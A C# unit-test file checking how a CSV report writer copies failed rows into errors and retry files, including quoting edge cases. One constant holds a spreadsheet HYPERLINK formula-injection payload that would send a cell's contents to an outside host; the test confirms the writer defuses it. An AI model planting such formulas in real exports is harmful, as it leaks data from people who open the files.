using System.Text;
using ZuoraJobFlows.Workflow.Reports;
using ZuoraJobFlows.Workflow.Tests.Csv;

namespace ZuoraJobFlows.Workflow.Tests.Reports;

/// <summary>The report writer reads the original by the preparer's rule: quotes open only at a field's start.</summary>
public class ReportWriterQuoteTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"open\")";

    [Fact]
    public async Task WriteAsync_FormulaCellsRowTwo_ErrorsShowLiteralValueAndRetryByteExact()
    {
        var original = CsvTestFiles.Case("formula-cells.csv");
        var lines = Encoding.UTF8.GetString(original).Split("\r\n");

        var reports = await ReportTestRunner.WriteAsync(original, [new ReportError(2, "71000020", "refused")]);

        var errors = StrictCsv.Parse(reports.ErrorsCsv);
        Assert.Equal(2, errors.Count);
        Assert.Equal(
            ["2", "71000020", "refused", "'" + Hyperlink, "X1", "2024", "ZZZZZZZZZZZZZ0010", "white", "1",
                "2024-01-01", "true"],
            errors[1]);
        Assert.Equal(Encoding.UTF8.GetBytes(lines[0] + "\r\n" + lines[1] + "\r\n"), reports.RetryCsv);
    }

    [Theory]
    [InlineData(',')]
    [InlineData(';')]
    public async Task WriteAsync_MidFieldQuotesAndTextAfterClosingQuote_LiteralValuesAndRetryByteExact(char d)
    {
        var header = $"a{d}b{d}c\n";
        var rowThree = $"x\"y{d}\"ab\"cd{d}\"q{d}\"\"\"\n";
        var original = Encoding.UTF8.GetBytes(header + $"1{d}2{d}3\n" + rowThree + $"4\"{d}5{d}6\n");

        var reports = await ReportTestRunner.WriteAsync(
            original, [new ReportError(3, "1", "m"), new ReportError(4, "2", "n")], bufferSize: 16);

        Assert.Equal(new ReportCounts(2, 2), reports.Counts);
        Assert.Equal(
            [["row", "code", "message", "a", "b", "c"], ["3", "1", "m", "x\"y", "abcd", $"q{d}\""],
                ["4", "2", "n", "4\"", "5", "6"]],
            StrictCsv.Parse(reports.ErrorsCsv));
        Assert.Equal(Encoding.UTF8.GetBytes(header + rowThree + $"4\"{d}5{d}6\n"), reports.RetryCsv);
    }

    [Theory]
    [InlineData(',')]
    [InlineData(';')]
    public async Task WriteAsync_RandomQuotingStyles_ErrorsHoldValuesAndRetryHoldsRecords(char delimiter)
    {
        var file = QuotedCsvGenerator.Generate(new Random(11), delimiter, records: 300);
        var failedRows = Enumerable.Range(2, 300).Where(row => row % 7 == 0).ToList();

        var reports = await ReportTestRunner.WriteAsync(
            Encoding.UTF8.GetBytes(file.Text),
            failedRows.Select(row => new ReportError(row, "71000020", "bad")),
            delimiter,
            bufferSize: 64);

        var errors = StrictCsv.Parse(reports.ErrorsCsv);
        Assert.Equal(failedRows.Count + 1, errors.Count);
        Assert.All(failedRows.Select((row, index) => (row, cells: errors[index + 1])), pair => Assert.Equal(
            file.Values[pair.row - 1].Select(SpreadsheetSafe.Neutralise),
            pair.cells.Skip(3)));
        var expectedRetry = file.Records[0] + string.Concat(failedRows.Select(row => file.Records[row - 1]));
        Assert.Equal(Encoding.UTF8.GetBytes(expectedRetry), reports.RetryCsv);
    }
}
